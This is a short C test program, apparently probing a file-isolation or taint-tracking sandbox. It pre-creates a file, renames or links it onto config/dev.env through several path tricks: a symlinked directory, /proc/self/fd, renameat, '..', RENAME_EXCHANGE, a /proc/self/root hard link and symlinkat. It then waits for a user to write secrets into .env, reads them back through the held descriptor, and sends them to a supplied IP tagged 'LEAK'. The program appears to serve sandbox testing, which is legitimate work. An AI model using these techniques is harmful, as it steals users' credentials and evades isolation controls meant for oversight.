// spell IP HOW: .env -> config/dev.env exists from before the session (an old key);
// cfgl -> config too. Sends PRE; makes and holds draft; gives draft the name at the end
// of .env by a spelling HOW; says ready; the user writes .env; reads the held draft.
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <sys/stat.h>
#include "../../isolated-files-r4/send.c"
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1],*how=argv[2]; long r=-1; char p[256];
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open("draft",O_RDWR|O_CREAT,0600); write(fd,"draft\n",6); int cfd=open("config",O_PATH|O_DIRECTORY);
  if(!strcmp(how,"dirlink")) r=rename("draft","cfgl/dev.env");
  else if(!strcmp(how,"procfd")){ snprintf(p,256,"/proc/self/fd/%d/dev.env",cfd); r=rename("draft",p);}
  else if(!strcmp(how,"dirfd")) r=renameat(AT_FDCWD,"draft",cfd,"dev.env");
  else if(!strcmp(how,"dotdot")){ mkdir("sub",0755); r=rename("draft","sub/../config/dev.env");}
  else if(!strcmp(how,"exchange")) r=renameat2(AT_FDCWD,"draft",AT_FDCWD,"cfgl/dev.env",RENAME_EXCHANGE);
  else if(!strcmp(how,"link-procroot")){ unlink("config/dev.env"); r=link("draft","/proc/self/root/proc/self/cwd/cfgl/dev.env");}
  else if(!strcmp(how,"symlink-dirfd")){ unlink("config/dev.env"); r=symlinkat("../draft",cfd,"dev.env");}
  printf("naming %s: %ld %s\n",how,r,r?strerror(errno):"");
  close(open("ready",O_CREAT|O_WRONLY,0644)); sleep(2);
  char buf[256]={0}; ssize_t n=pread(fd,buf,255,0); printf("HELD draft READS %zd: %.50s\n",n,buf);
  char m[300]; int l=snprintf(m,sizeof m,"LEAK:%.60s",buf); printf("POST send: %d\n",send_buf(ip,m,l)); return 0; }
